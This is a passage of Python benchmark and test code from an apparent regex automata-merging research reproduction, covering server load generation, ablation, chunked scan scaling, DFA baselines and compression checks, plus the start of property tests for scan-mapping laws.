    "p50_ms", "p90_ms", "p95_ms", "p99_ms", "max_ms",
    "server_queue_wait_p95_ms", "server_scan_p95_ms",
]


def _percentile(ordered: list[float], q: float) -> float:
    """Nearest-rank percentile of an already-sorted list."""
    index = min(int(q * len(ordered)), len(ordered) - 1)
    return ordered[index]


def _int_list(text: str) -> list[int]:
    try:
        values = [int(part) for part in text.split(",") if part.strip()]
    except ValueError as exc:
        raise argparse.ArgumentTypeError(f"need comma-separated ints: {text!r}") from exc
    if not values or any(v < 1 for v in values):
        raise argparse.ArgumentTypeError(f"values must be >= 1: {text!r}")
    return values


def _materials(tmp_dir: str, ruleset: str, payload_sizes: list[int]):
    patterns = list(load_builtin(ruleset).patterns)
    artifact = ArtifactStore(tmp_dir).get_or_compile(
        patterns, CompileOptions(emit_anml=False)
    )
    payloads = {size: _demo_stream(patterns, size) for size in payload_sizes}
    oracles = {}
    for size, payload in payloads.items():
        oracle = set()
        for mfsa in artifact.mfsas:
            oracle |= IMfantEngine(mfsa).run(payload.decode("latin-1")).matches
        oracles[size] = oracle
    return artifact, payloads, oracles


def _client_worker(
    address, payload, requests: int, warmup: int, arrival: str, rate: float, oracle
) -> list[float]:
    """One client connection's request stream; returns its latencies.

    Correctness is asserted once per connection (the oracle comparison on
    the first measured response) — per-request assertions would bias the
    latency of exactly the runs this harness exists to measure.
    """
    latencies: list[float] = []
    with MatchClient.connect(address) as client:
        for _ in range(warmup):
            client.match(payload)
        loop_started = time.perf_counter()
        for index in range(requests):
            if arrival == "open":
                scheduled = loop_started + index / rate
                now = time.perf_counter()
                if scheduled > now:
                    time.sleep(scheduled - now)
            else:
                scheduled = time.perf_counter()
            result = client.match(payload)
            latencies.append(time.perf_counter() - scheduled)
            if not (result.ok or result.partial):
                raise AssertionError(f"request failed: {result.error}")
            if index == 0 and oracle is not None and result.matches != oracle:
                raise AssertionError("served matches diverge from the oracle")
    return latencies


def run_configuration(
    artifact, payload: bytes, oracle, *, shards: int, clients: int,
    requests: int, warmup: int, mode: str, arrival: str, rate: float,
) -> dict:
    """One (shards, clients, payload) point: start a server, drive it."""
    per_client = max(1, requests // clients)
    config = ServeConfig(
        shards=shards,
        batch_max=8,
        queue_depth=max(64, per_client * clients),
        mode=mode,
        metrics=True,
    )
    with ServerThread(artifact, config) as address:
        started = time.perf_counter()
        with ThreadPoolExecutor(max_workers=clients) as executor:
            per_worker = list(
                executor.map(
                    lambda _: _client_worker(
                        address, payload, per_client, warmup, arrival, rate, oracle
                    ),
                    range(clients),
                )
            )
        elapsed = time.perf_counter() - started
        with MatchClient.connect(address) as client:
            server_latency = client.stats_full().get("latency_ms") or {}
    latencies = sorted(sec for worker in per_worker for sec in worker)
    completed = len(latencies)
    row = {
        "arrival": arrival,
        "mode": mode,
        "payload_bytes": len(payload),
        "shards": shards,
        "clients": clients,
        "requests": completed,
        "seconds": elapsed,
        "requests_per_second": completed / elapsed,
        "payload_mb_per_second": completed * len(payload) / elapsed / 1e6,
        "latency_ms": {
            label: _percentile(latencies, q) * 1e3 for label, q in QUANTILES
        },
        "max_ms": latencies[-1] * 1e3,
        "server_latency_ms": server_latency,
    }
    return row


def _single_process_baseline(artifact, payload: bytes, repeats: int = 3) -> float:
    engines = [IMfantEngine(mfsa) for mfsa in artifact.mfsas]
    text = payload.decode("latin-1")
    best = float("inf")
    for _ in range(repeats):
        started = time.perf_counter()
        for engine in engines:
            engine.run(text, collect_stats=False)
        best = min(best, time.perf_counter() - started)
    return best


# -- reporting ---------------------------------------------------------------


def write_csv(rows: list[dict], path: Path) -> None:
    with path.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(CSV_COLUMNS)
        for row in rows:
            server = row.get("server_latency_ms") or {}
            writer.writerow([
                row["arrival"], row["mode"], row["payload_bytes"],
                row["shards"], row["clients"], row["requests"],
                f"{row['seconds']:.6f}",
                f"{row['requests_per_second']:.3f}",
                f"{row['payload_mb_per_second']:.4f}",
                *(f"{row['latency_ms'][label]:.3f}" for label, _ in QUANTILES),
                f"{row['max_ms']:.3f}",
                (server.get("serve_queue_wait_seconds") or {}).get("p95", ""),
                (server.get("serve_scan_seconds") or {}).get("p95", ""),
            ])


def saturation_plots(rows: list[dict]) -> str:
    """ASCII saturation curves: req/s and p95 latency vs client count,
    one series per shard count, one chart pair per payload size."""
    charts: list[str] = []
    payload_sizes = sorted({row["payload_bytes"] for row in rows})
    for size in payload_sizes:
        sized = [r for r in rows if r["payload_bytes"] == size]
        throughput: dict[str, list[tuple[float, float]]] = {}
        tail: dict[str, list[tuple[float, float]]] = {}
        for row in sorted(sized, key=lambda r: (r["shards"], r["clients"])):
            key = f"{row['shards']} shard(s)"
            throughput.setdefault(key, []).append(
                (row["clients"], row["requests_per_second"])
            )
            tail.setdefault(key, []).append((row["clients"], row["latency_ms"]["p95"]))
        charts.append(line_chart(
            throughput,
            title=f"saturation: requests/s vs clients ({size} B payloads)",
        ))
        charts.append(line_chart(
            tail,
            title=f"tail latency: p95 ms vs clients ({size} B payloads)",
            log_y=True,
        ))
    return "\n\n".join(charts)


def bench_report(rows: list[dict], ruleset: str, baseline_seconds: float,
                 payload_bytes: int, requests: int) -> dict:
    """The BENCH_serve.json document: historical mean-throughput fields
    preserved, ``latency_ms`` percentiles added per configuration."""
    kept = [r for r in rows if r["payload_bytes"] == payload_bytes]
    return {
        "benchmark": "bench_serve",
        "generator": "benchmarks/loadgen.py",
        "ruleset": ruleset,
        "payload_bytes": payload_bytes,
        "requests_per_configuration": requests,
        "single_process_scan_seconds": baseline_seconds,
        "single_process_mb_per_second": payload_bytes / baseline_seconds / 1e6,
        "note": "served throughput includes sockets, framing, queueing and "
                "batch coalescing; latency_ms percentiles are per-request "
                "client-observed round trips; correctness asserted per "
                "connection against the single-process oracle",
        "results": [
            {
                "shards": r["shards"],
                "clients": r["clients"],
                "requests": r["requests"],
                "seconds": r["seconds"],
                "requests_per_second": r["requests_per_second"],
                "payload_mb_per_second": r["payload_mb_per_second"],
                "latency_ms": {
                    "p50": r["latency_ms"]["p50"],
                    "p95": r["latency_ms"]["p95"],
                    "p99": r["latency_ms"]["p99"],
                },
            }
            for r in kept
        ],
    }


# -- driver ------------------------------------------------------------------


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        description="Sweep clients x shards x payload sizes against the "
                    "serve stack; emit CSV, ASCII saturation plots and a "
                    "regenerated BENCH_serve.json with latency percentiles.",
    )
    parser.add_argument("--ruleset", default=DEFAULT_RULESET,
                        help="builtin ruleset name (default %(default)s)")
    parser.add_argument("--shards", type=_int_list, default=[1, 2, 4],
                        metavar="N,N,…", help="shard counts (default 1,2,4)")
    parser.add_argument("--clients", type=_int_list, default=[1, 4, 8],
                        metavar="N,N,…", help="client counts (default 1,4,8)")
    parser.add_argument("--payload-bytes", type=_int_list, default=[16384],
                        metavar="N,N,…", help="payload sizes (default 16384)")
    parser.add_argument("--requests", type=int, default=64, metavar="N",
                        help="measured requests per configuration (default 64)")
    parser.add_argument("--warmup", type=int, default=8, metavar="N",
                        help="unmeasured warmup requests per client (default 8)")
    parser.add_argument("--mode", choices=("thread", "process"), default="thread")
    parser.add_argument("--arrival", choices=("closed", "open"), default="closed",
                        help="closed: next request when the last completes; "
                             "open: fixed schedule, latency from scheduled send")
    parser.add_argument("--rate", type=float, default=50.0, metavar="R",
                        help="open-loop per-client request rate in req/s "
                             "(default 50)")
    parser.add_argument("--out-dir", type=Path, default=Path("loadgen_out"),
                        metavar="DIR", help="CSV/plot output directory")
    parser.add_argument("--bench-json", type=Path, default=None, metavar="FILE",
                        help="where to write the BENCH_serve.json document "
                             "(default <repo>/BENCH_serve.json; '-' to skip)")
    parser.add_argument("--smoke", action="store_true",
                        help="tiny sweep into a temp dir; asserts percentile "
                             "fields and exits (the CI form)")
    args = parser.parse_args(argv)

    if args.smoke:
        args.shards, args.clients = [1], [1, 2]
        args.payload_bytes = [2048]
        args.requests, args.warmup = 8, 2

    repo_root = Path(__file__).resolve().parent.parent
    with TemporaryDirectory() as tmp_dir:
        artifact, payloads, oracles = _materials(
            tmp_dir, args.ruleset, args.payload_bytes
        )
        baseline_payload = args.payload_bytes[0]
        baseline_seconds = _single_process_baseline(
            artifact, payloads[baseline_payload]
        )
        rows: list[dict] = []
        total = len(args.payload_bytes) * len(args.shards) * len(args.clients)
        for size in args.payload_bytes:
            for shards in args.shards:
                for clients in args.clients:
                    row = run_configuration(
                        artifact, payloads[size], oracles[size],
                        shards=shards, clients=clients,
                        requests=args.requests, warmup=args.warmup,
                        mode=args.mode, arrival=args.arrival, rate=args.rate,
                    )
                    rows.append(row)
                    lat = row["latency_ms"]
                    print(f"[{len(rows)}/{total}] payload={size}B shards={shards} "
                          f"clients={clients}: {row['requests_per_second']:.1f} req/s  "
                          f"p50={lat['p50']:.2f}ms p95={lat['p95']:.2f}ms "
                          f"p99={lat['p99']:.2f}ms", flush=True)

    if args.smoke:
        with TemporaryDirectory() as smoke_dir:
            out_dir = Path(smoke_dir)
            write_csv(rows, out_dir / "loadgen.csv")
            plots = saturation_plots(rows)
            report = bench_report(rows, args.ruleset, baseline_seconds,
                                  baseline_payload, args.requests)
        for row in report["results"]:
            for key in ("p50", "p95", "p99"):
                value = row["latency_ms"][key]
                assert isinstance(value, float) and value > 0.0, (key, row)
        assert plots.strip(), "saturation plots came out empty"
        print("loadgen smoke OK: "
              f"{len(rows)} configuration(s), percentile fields present")
        return 0

    out_dir = args.out_dir
    out_dir.mkdir(parents=True, exist_ok=True)
    csv_path = out_dir / "loadgen.csv"
    write_csv(rows, csv_path)
    plots = saturation_plots(rows)
    plots_path = out_dir / "loadgen_plots.txt"
    plots_path.write_text(plots + "\n")
    print()
    print(plots)
    print(f"\nwrote {csv_path} and {plots_path}")

    if args.bench_json is None or str(args.bench_json) != "-":
        bench_path = args.bench_json or (repo_root / "BENCH_serve.json")
        report = bench_report(rows, args.ruleset, baseline_seconds,
                              baseline_payload, args.requests)
        bench_path.write_text(json.dumps(report, indent=2) + "\n")
        print(f"wrote {bench_path}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
