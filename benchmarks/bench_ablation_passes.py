"""Ablation — the pre-merging single-FSA passes (paper §IV-C, Fig. 5).

Quantifies what each optimisation contributes to merging effectiveness:

* loop expansion (Fig. 5a) maximises mergeable transitions by linearising
  bounded repeats;
* suffix state merging + multiplicity simplification (Fig. 5b) fuse
  single-character alternations into CC arcs so unsafe partial merges
  cannot happen (and shrink the automata).

Each variant compiles the same suite at M=all; matches must be invariant.
"""

from repro.automata.optimize import OptimizeOptions
from repro.engine.imfant import IMfantEngine
from repro.pipeline.compiler import CompileOptions, compile_ruleset
from repro.reporting.experiments import dataset_bundle
from repro.reporting.tables import format_table

VARIANTS = {
    "all passes": OptimizeOptions(),
    "no loop expansion": OptimizeOptions(expand_loops=False),
    "no suffix merge": OptimizeOptions(merge_suffix_states=False),
    "no multiplicity": OptimizeOptions(simplify_multiplicity=False),
    "none": OptimizeOptions(expand_loops=False, merge_suffix_states=False,
                            simplify_multiplicity=False),
}


def _sweep(bundle):
    out = {}
    for name, optimize in VARIANTS.items():
        result = compile_ruleset(
            bundle.ruleset.patterns,
            CompileOptions(merging_factor=0, emit_anml=False, optimize=optimize),
        )
        out[name] = result
    return out


def test_pass_ablation(benchmark, config):
    bundle = dataset_bundle("RG1", config)  # repeat- and CC-heavy suite
    results = benchmark.pedantic(lambda: _sweep(bundle), rounds=1, iterations=1)

    baseline_matches = None
    rows = []
    for name, result in results.items():
        matches = set()
        for mfsa in result.mfsas:
            matches |= IMfantEngine(mfsa).run(bundle.stream, collect_stats=False).matches
        if baseline_matches is None:
            baseline_matches = matches
        assert matches == baseline_matches, name  # passes never change matches
        rows.append((
            name,
            result.total_output_states,
            result.merge_report.output_transitions,
            f"{result.merge_report.state_compression:.1f}%",
        ))

    print()
    print(format_table(
        ("variant", "MFSA states", "MFSA transitions", "state compression"),
        rows,
        title="Ablation — single-FSA passes before merging (RG1, M=all)",
    ))

    full = results["all passes"]
    bare = results["none"]
    # the full pipeline produces a smaller merged automaton than no passes
    assert full.total_output_states < bare.total_output_states
