"""SFA mapping-scan scaling: mapping vs overlap vs sequential.

The question this bench answers: at how many threads does zero-overlap
mapping-parallel scanning (:mod:`repro.engine.sfa`) beat (a) the one
sequential pass and (b) overlap chunking, per builtin ruleset and chunk
size?  The headline case is an *unbounded* ruleset (``dotstar_rules``):
the overlap planner has no finite match width to extend chunks by, so
before the mapping path ``chunk_scan`` fell back to one sequential scan
— mapping scans are the first data-parallel execution those rulesets
get at all.

Methodology (same substitution as the Fig. 10 scaling bench, DESIGN.md
§3): CPython threads cannot exhibit hardware parallelism, so per-chunk
*work* is measured from the engines' real execution counters (the
mapping side's ``linear_ops`` counter prices its simultaneous-run
columns via :meth:`~repro.engine.cost.CostModel.mapping_run_cost`) and
latency is the deterministic machine-model makespan
(:func:`~repro.engine.multithread.simulate_parallel_latency`, default
4C/8T).  Correctness is asserted inline on every cell: the folded
mapping matches must equal the single-shot oracle.

Entry points:

* ``PYTHONPATH=src python benchmarks/bench_sfa_scaling.py`` — full
  sweep, writes ``BENCH_sfa.json`` and prints a table;
* ``... bench_sfa_scaling.py --smoke`` — reduced sweep for CI; still
  writes the JSON and **fails** unless mapping-parallel beats the
  sequential fallback by >1.5x at 4 threads on an unbounded ruleset.

Environment: ``REPRO_BENCH_SFA_STREAM`` overrides the stream size.
"""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path

from repro.cli import _demo_stream
from repro.datasets import load_builtin
from repro.engine.chunkscan import ruleset_max_width
from repro.engine.cost import CostModel
from repro.engine.imfant import IMfantEngine
from repro.engine.multithread import MachineModel, simulate_parallel_latency
from repro.engine.sfa import SfaScanner, fold_mappings
from repro.engine.tables import MfsaTables
from repro.pipeline.compiler import CompileOptions, compile_ruleset

STREAM_SIZE = int(os.environ.get("REPRO_BENCH_SFA_STREAM", str(1 << 15)))
RULESETS = ("dotstar_rules", "log_patterns", "tokens_exact")
THREADS = (1, 2, 4, 8)
CHUNK_SIZES = (2048, 8192)
SPEEDUP_FLOOR = 1.5  # acceptance: mapping vs sequential at 4 threads, unbounded


def bench_cell(name: str, chunk_size: int, stream_size: int,
               cost: CostModel, machine: MachineModel) -> dict:
    """One (ruleset, chunk_size) cell: measured works, simulated latencies,
    inline oracle check."""
    patterns = list(load_builtin(name).patterns)
    compiled = compile_ruleset(patterns, CompileOptions(merging_factor=0, emit_anml=False))
    assert len(compiled.mfsas) == 1  # M = all
    mfsa = compiled.mfsas[0]
    stream = _demo_stream(patterns, stream_size)
    width = ruleset_max_width(patterns)

    # Sequential baseline: one plain pass, real counters.
    oracle_run = IMfantEngine(mfsa).run(stream)
    sequential_work = cost.run_cost(oracle_run.stats)
    eps = set(MfsaTables.build(mfsa).empty_matching_rules)
    oracle = {(r, e) for r, e in oracle_run.matches if r not in eps}

    # Mapping side: scan each chunk independently, price the extra
    # simultaneous-run columns, then check the fold is byte-identical.
    scanner = SfaScanner(mfsa)
    bounds = list(range(0, len(stream), chunk_size))
    pieces = [stream[b : b + chunk_size] for b in bounds]
    scans = [scanner.scan_chunk(p) for p in pieces]
    mapping_works = [cost.mapping_run_cost(s.stats, s.linear_ops) for s in scans]
    folded, _ = fold_mappings([s.mapping for s in scans],
                              [len(p) for p in pieces], scanner)
    assert folded == oracle, f"{name}/{chunk_size}: mapping fold != oracle"
    mapping_work = sum(mapping_works)

    # Overlap side (bounded rulesets only): each chunk after the first
    # rescans `width` lead bytes; work measured the same way.
    overlap_works = None
    if width is not None:
        overlap_works = []
        for start in bounds:
            lead = min(width, start)
            piece = stream[start - lead : start + chunk_size]
            stats = IMfantEngine(mfsa).run(piece).stats
            overlap_works.append(cost.run_cost(stats))

    row = {
        "ruleset": name,
        "rules": len(patterns),
        "mfsa_states": mfsa.num_states,
        "stream_bytes": len(stream),
        "chunk_size": chunk_size,
        "chunks": len(pieces),
        "match_width": width,  # null = unbounded (no overlap plan exists)
        "matches": len(oracle),
        "sequential_work": sequential_work,
        "mapping_work": mapping_work,
        "mapping_overhead_kappa": mapping_work / sequential_work,
        "overlap_work": sum(overlap_works) if overlap_works else None,
        "latency": {},
        "speedup_vs_sequential": {},
    }
    for threads in THREADS:
        mapping_latency = simulate_parallel_latency(mapping_works, threads, machine)
        cell = {"mapping": mapping_latency}
        speedup = {"mapping": sequential_work / mapping_latency}
        if overlap_works is not None:
            overlap_latency = simulate_parallel_latency(overlap_works, threads, machine)
            cell["overlap"] = overlap_latency
            speedup["overlap"] = sequential_work / overlap_latency
        row["latency"][str(threads)] = cell
        row["speedup_vs_sequential"][str(threads)] = speedup
    return row


def run_sweep(stream_size: int = STREAM_SIZE,
              rulesets=RULESETS, chunk_sizes=CHUNK_SIZES) -> dict:
    cost = CostModel()
    machine = MachineModel()
    rows = [bench_cell(name, size, stream_size, cost, machine)
            for name in rulesets for size in chunk_sizes]
    unbounded = [r for r in rows if r["match_width"] is None]
    best_unbounded_at4 = max(
        r["speedup_vs_sequential"]["4"]["mapping"] for r in unbounded
    ) if unbounded else None
    return {
        "benchmark": "bench_sfa_scaling",
        "stream_bytes": stream_size,
        "machine_model": {
            "physical_cores": machine.physical_cores,
            "hardware_threads": machine.hardware_threads,
            "smt_efficiency": machine.smt_efficiency,
        },
        "cost_model": {
            "c_char": cost.c_char, "c_trans": cost.c_trans,
            "c_active": cost.c_active, "c_linear": cost.c_linear,
        },
        "note": "works measured from real execution counters; latencies are "
                "the deterministic machine-model makespan (CPython threads "
                "cannot show hardware scaling — DESIGN.md §3, substitution 3). "
                "match_width null = unbounded ruleset: no overlap plan exists, "
                "chunk_scan previously fell back to one sequential pass there.",
        "results": rows,
        "summary": {
            "unbounded_rulesets": [r["ruleset"] for r in unbounded],
            "best_unbounded_mapping_speedup_at_4_threads": best_unbounded_at4,
            "acceptance_floor": SPEEDUP_FLOOR,
            "all_folds_equal_oracle": True,  # asserted per cell
        },
    }


def main(argv: list[str] | None = None) -> int:
    argv = list(sys.argv[1:] if argv is None else argv)
    smoke = "--smoke" in argv
    if smoke:
        argv.remove("--smoke")
    out = Path(argv[0]) if argv else Path(__file__).resolve().parent.parent / "BENCH_sfa.json"

    if smoke:
        report = run_sweep(stream_size=min(STREAM_SIZE, 1 << 14),
                           rulesets=("dotstar_rules", "tokens_exact"),
                           chunk_sizes=(2048,))
    else:
        report = run_sweep()
    out.write_text(json.dumps(report, indent=2) + "\n")

    header = (f"{'ruleset':16s} {'chunk':>6s} {'width':>6s} {'kappa':>6s} "
              + " ".join(f"map@{t:<2d}" for t in THREADS))
    print(header)
    for row in report["results"]:
        speedups = " ".join(
            f"{row['speedup_vs_sequential'][str(t)]['mapping']:5.2f}x" for t in THREADS
        )
        width = "inf" if row["match_width"] is None else str(row["match_width"])
        print(f"{row['ruleset']:16s} {row['chunk_size']:6d} {width:>6s} "
              f"{row['mapping_overhead_kappa']:6.2f} {speedups}")
    print(f"\nwrote {out}")

    best = report["summary"]["best_unbounded_mapping_speedup_at_4_threads"]
    if best is None or best <= SPEEDUP_FLOOR:
        print(f"FAIL: unbounded mapping speedup at 4 threads is {best} "
              f"(need > {SPEEDUP_FLOOR}x)")
        return 1
    print(f"OK: unbounded mapping speedup at 4 threads = {best:.2f}x "
          f"(> {SPEEDUP_FLOOR}x)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
