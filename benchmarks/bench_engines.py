"""Engine micro-benchmarks: iMFAnt backends and merge-algorithm scaling.

Not a paper figure; supporting measurements —

* pure-Python vs NumPy-vectorised iMFAnt on one merged suite (the NumPy
  backend is the CPU stand-in for iNFAnt's GPU data parallelism and
  should win on transition-dense automata);
* Algorithm 1 runtime growth with the merging factor, the empirical
  counterpart of the paper's complexity estimate (Eq. 3).
"""

import pytest

from repro.mfsa.merge import MergeReport, merge_ruleset
from repro.engine.imfant import IMfantEngine
from repro.reporting.experiments import dataset_bundle


@pytest.mark.parametrize("backend", ["python", "numpy"])
def test_imfant_backend_throughput(benchmark, config, backend):
    bundle = dataset_bundle("DS9", config)
    mfsa = bundle.compiled(0).mfsas[0]
    engine = IMfantEngine(mfsa, backend=backend)
    stream = bundle.stream

    result = benchmark(lambda: engine.run(stream, collect_stats=False))
    assert result.matches  # the stream plants ruleset material

    reference = IMfantEngine(mfsa, backend="python").run(stream).matches
    assert result.matches == reference


@pytest.mark.parametrize("m", [2, 10, 0])
def test_merge_runtime_growth(benchmark, config, m):
    """Eq. 3: merging cost grows superlinearly with the merging factor."""
    bundle = dataset_bundle("TCP", config)
    fsas = list(enumerate(bundle.compiled(1).fsas))

    report = MergeReport()
    benchmark.pedantic(
        lambda: merge_ruleset(fsas, m, report=MergeReport()), rounds=3, iterations=1
    )
    merge_ruleset(fsas, m, report=report)
    print(f"\nM={'all' if m == 0 else m}: {report.label_comparisons} label comparisons, "
          f"{report.walk_steps} walk steps, {report.state_compression:.1f}% state compression")
