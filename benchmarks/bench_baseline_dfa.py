"""Baseline — the classic DFA pipeline vs MFSA merging (paper §II / §VII).

The paper motivates MFSAs against the two classic options: union DFAs
(fast but state-explosion-prone) and compressed DFAs (D2FA-family
default transitions, which are hard to execute efficiently).  This bench
builds all three representations for the same rulesets and compares

* memory footprint (states / stored transitions), and
* the explosion behaviour on the dot-star-heavy suite, where subset
  construction blows past its budget while the MFSA stays linear in the
  ruleset.

Matches are cross-checked between the DFA engine and iMFAnt.
"""

import pytest

from repro.dfa import (
    DfaEngine,
    DfaExplosionError,
    compress_default_transitions,
    determinize,
    minimize,
)
from repro.engine.imfant import IMfantEngine
from repro.reporting.experiments import ExperimentConfig, dataset_bundle
from repro.reporting.tables import format_table

SMALL = ExperimentConfig(scale=20, stream_size=1024, datasets=("BRO", "PEN", "TCP"))


def _pipeline(bundle):
    compiled = bundle.compiled(0)
    fsas = list(enumerate(compiled.fsas))
    dfa = determinize(fsas, max_states=60_000)
    small = minimize(dfa)
    d2fa = compress_default_transitions(small)
    return compiled, dfa, small, d2fa


def test_dfa_pipeline_vs_mfsa_footprint(benchmark):
    bundles = {abbr: dataset_bundle(abbr, SMALL) for abbr in SMALL.datasets}
    results = benchmark.pedantic(
        lambda: {abbr: _pipeline(b) for abbr, b in bundles.items()}, rounds=1, iterations=1
    )

    from repro.reporting.memory import footprint_summary

    rows = []
    memory_rows = []
    for abbr, (compiled, dfa, small, d2fa) in results.items():
        mfsa = compiled.mfsas[0]
        rows.append((
            abbr,
            mfsa.num_states, mfsa.num_transitions,
            dfa.num_states, small.num_states,
            small.num_transitions, d2fa.num_stored_transitions,
        ))
        footprint = footprint_summary(compiled.fsas, mfsa, small, d2fa)
        memory_rows.append((
            abbr, footprint["fsa_set"], footprint["mfsa"],
            footprint["dfa"], footprint["d2fa"],
        ))
        # cross-check matching behaviour on the suite's stream
        stream = bundles[abbr].stream
        assert DfaEngine(small).run(stream).matches == \
            IMfantEngine(mfsa).run(stream, collect_stats=False).matches

    print()
    print(format_table(
        ("Dataset", "MFSA Q", "MFSA T", "DFA Q", "minDFA Q", "minDFA T", "D2FA stored T"),
        rows,
        title="Baseline — MFSA vs the classic DFA pipeline (M=all)",
    ))
    print(format_table(
        ("Dataset", "FSA set B", "MFSA B", "minDFA B", "D2FA B"),
        memory_rows,
        title="Modelled memory footprint (bytes)",
    ))
    for abbr, fsa_bytes, mfsa_bytes, dfa_bytes, d2fa_bytes in memory_rows:
        assert mfsa_bytes < dfa_bytes and mfsa_bytes < d2fa_bytes, abbr

    for abbr, mfsa_q, _, dfa_q, min_q, min_t, d2fa_t in rows:
        # D2FA compresses the DFA's transition table substantially
        assert d2fa_t < min_t, abbr
        # and the MFSA stays (much) smaller than even the minimal DFA
        assert mfsa_q <= min_q, abbr


def test_dotstar_suite_explodes_subset_construction(benchmark):
    """DS9-style rulesets are exactly where union DFAs explode (§II)."""
    config = ExperimentConfig(scale=10, stream_size=256, datasets=("DS9",))
    bundle = dataset_bundle("DS9", config)
    fsas = list(enumerate(bundle.compiled(0).fsas))

    def attempt():
        try:
            determinize(fsas, max_states=5_000)
            return None
        except DfaExplosionError as exc:
            return exc

    explosion = benchmark.pedantic(attempt, rounds=1, iterations=1)
    mfsa = bundle.compiled(0).mfsas[0]
    print(f"\nDS9 (1/10 scale): subset construction exceeded 5000 states; "
          f"the MFSA holds the same ruleset in {mfsa.num_states} states")
    assert explosion is not None
    assert mfsa.num_states < 5_000
