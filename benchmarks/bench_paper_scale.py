"""Paper-scale compression check — full-size rulesets, no scaling.

Compilation is cheap enough even in Python (fractions of a second to a
few seconds per suite) to merge the *full* 217–300-RE suites in-tree.
This bench regenerates Fig. 7's M=all point at the paper's own ruleset
sizes, in both merging disciplines (see EXPERIMENTS.md):

* maximal merging (``min_walk_len=1``): over-compresses (~90 % states);
* ≥2-transition sub-paths (``min_walk_len=2``): lands on the paper's
  71.95 % average.

The execution experiments stay scaled (the engines, not the compiler,
are the 10³× gap) — this bench is compile-side only.
"""

from repro.automata.optimize import compile_re_to_fsa
from repro.datasets import DATASET_PROFILES, generate_ruleset
from repro.mfsa.merge import MergeReport, merge_ruleset
from repro.reporting.tables import format_table


def _sweep():
    out = {}
    for abbr, profile in DATASET_PROFILES.items():
        ruleset = generate_ruleset(profile)  # FULL scale
        fsas = [(i, compile_re_to_fsa(p)) for i, p in enumerate(ruleset.patterns)]
        per_l = {}
        for walk_len in (1, 2):
            report = MergeReport()
            merge_ruleset(fsas, 0, report=report, min_walk_len=walk_len)
            per_l[walk_len] = report
        out[abbr] = per_l
    return out


def test_paper_scale_compression(benchmark):
    results = benchmark.pedantic(_sweep, rounds=1, iterations=1)

    rows = []
    for abbr, per_l in results.items():
        rows.append((
            abbr,
            int(per_l[1].input_states),
            f"{per_l[1].state_compression:.2f}%",
            f"{per_l[2].state_compression:.2f}%",
            f"{per_l[2].transition_compression:.2f}%",
        ))
    print()
    print(format_table(
        ("Dataset", "input states", "maximal (L=1)", "sub-paths ≥2 (L=2)",
         "L=2 transitions"),
        rows,
        title="Paper-scale compression at M=all "
              "(paper: 71.95% states / 38.88% transitions)",
    ))

    avg_l1 = sum(per_l[1].state_compression for per_l in results.values()) / len(results)
    avg_l2 = sum(per_l[2].state_compression for per_l in results.values()) / len(results)
    print(f"averages: L=1 {avg_l1:.2f}%, L=2 {avg_l2:.2f}% (paper 71.95%)")

    # full-scale shape: maximal merging over-shoots, ≥2-sub-paths lands in band
    assert avg_l1 > 85.0
    assert 60.0 <= avg_l2 <= 85.0
    for abbr, per_l in results.items():
        assert per_l[1].state_compression > per_l[2].state_compression, abbr
        assert per_l[2].state_compression > per_l[2].transition_compression, abbr
