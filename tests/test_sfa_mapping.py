"""Algebraic properties of SFA chunk mappings (repro.engine.sfa).

The mapping layer's whole correctness argument rests on three laws:

* ``compose`` is **associative** — workers may reduce their chunk
  mappings in any grouping;
* ``identity()`` is a two-sided **unit** — empty chunks are no-ops;
* cutting a stream anywhere and folding the pieces' mappings is
  **byte-identical** to the single-shot engine — the law the serve and
  streaming layers rely on for zero-overlap data parallelism.

The laws hold as plain dataclass equality (not just observational
equivalence) because the scanner prunes dead (state, slot) pairs up
front.  Hypothesis drives random rulesets/cuts; the curated builtin
rulesets — including the unbounded ``dotstar_rules`` that the overlap
planner cannot chunk at all — are each pushed through arbitrary cuts
against the oracle.
"""

import pickle

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.cli import _demo_stream
from repro.datasets import list_builtin, load_builtin
from repro.engine.imfant import IMfantEngine
from repro.engine.sfa import SfaScanner, expand_runs, fold_mappings
from repro.mfsa.merge import merge_fsas
from repro.pipeline.compiler import CompileOptions, compile_ruleset

from conftest import compile_ruleset_fsas, ere_patterns, input_strings

pytestmark = pytest.mark.sfa


def build(patterns):
    return merge_fsas(compile_ruleset_fsas(patterns))


def payload_of(text):
    return text.encode("latin-1") if isinstance(text, str) else text


def oracle_non_eps(scanner, mfsa, text):
    """Single-shot matches minus ε-rules (the mapping layer's contract:
    ε-accepting rules are the all-offsets fact, completed by callers)."""
    eps = set(scanner.tables.empty_matching_rules)
    return {
        (rule, end)
        for rule, end in IMfantEngine(mfsa).run(text).matches
        if rule not in eps
    }


def fold_cuts(scanner, payload, cuts):
    """Scan each cut piece, fold the mappings, return absolute matches."""
    bounds = [0] + sorted(cuts) + [len(payload)]
    pieces = [payload[a:b] for a, b in zip(bounds, bounds[1:])]
    scans = [scanner.scan_chunk(p).mapping for p in pieces]
    matches, _ = fold_mappings(scans, [len(p) for p in pieces], scanner)
    return matches


# ---------------------------------------------------------------------------
# Monoid laws (hypothesis)
# ---------------------------------------------------------------------------


@given(st.data())
@settings(max_examples=80, deadline=None)
def test_compose_is_associative(data):
    patterns = data.draw(st.lists(ere_patterns(), min_size=1, max_size=3))
    text = payload_of(data.draw(input_strings()))
    i = data.draw(st.integers(min_value=0, max_value=len(text)))
    j = data.draw(st.integers(min_value=i, max_value=len(text)))

    scanner = SfaScanner(build(patterns))
    a = scanner.scan_chunk(text[:i]).mapping
    b = scanner.scan_chunk(text[i:j]).mapping
    c = scanner.scan_chunk(text[j:]).mapping
    assert scanner.compose(scanner.compose(a, b), c) == scanner.compose(
        a, scanner.compose(b, c)
    )


@given(st.data())
@settings(max_examples=60, deadline=None)
def test_identity_is_a_unit(data):
    patterns = data.draw(st.lists(ere_patterns(), min_size=1, max_size=3))
    text = payload_of(data.draw(input_strings()))

    scanner = SfaScanner(build(patterns))
    m = scanner.scan_chunk(text).mapping
    e = scanner.identity()
    assert scanner.compose(e, m) == m
    assert scanner.compose(m, e) == m
    assert scanner.compose(e, e) == e
    # identity is what an empty chunk scans to
    assert scanner.scan_chunk(b"").mapping == e


@given(st.data())
